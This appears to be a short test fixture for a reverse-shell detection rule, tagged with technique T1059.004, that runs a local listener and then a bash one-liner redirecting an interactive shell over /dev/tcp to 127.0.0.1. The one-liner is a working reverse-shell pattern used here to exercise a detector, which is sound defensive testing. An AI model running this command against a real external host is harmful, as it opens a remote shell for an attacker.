# technique: T1059.004 bash -i with its terminal on a TCP connection
# rule: reverse_shell
# exe: /usr/bin/bash
# peer: 127.0.0.1
. "$(dirname "$0")/common.bash"
serve_once 'exit
'
bash -c "bash -i >& /dev/tcp/127.0.0.1/$VG_PORT 0>&1" 2>/dev/null || true
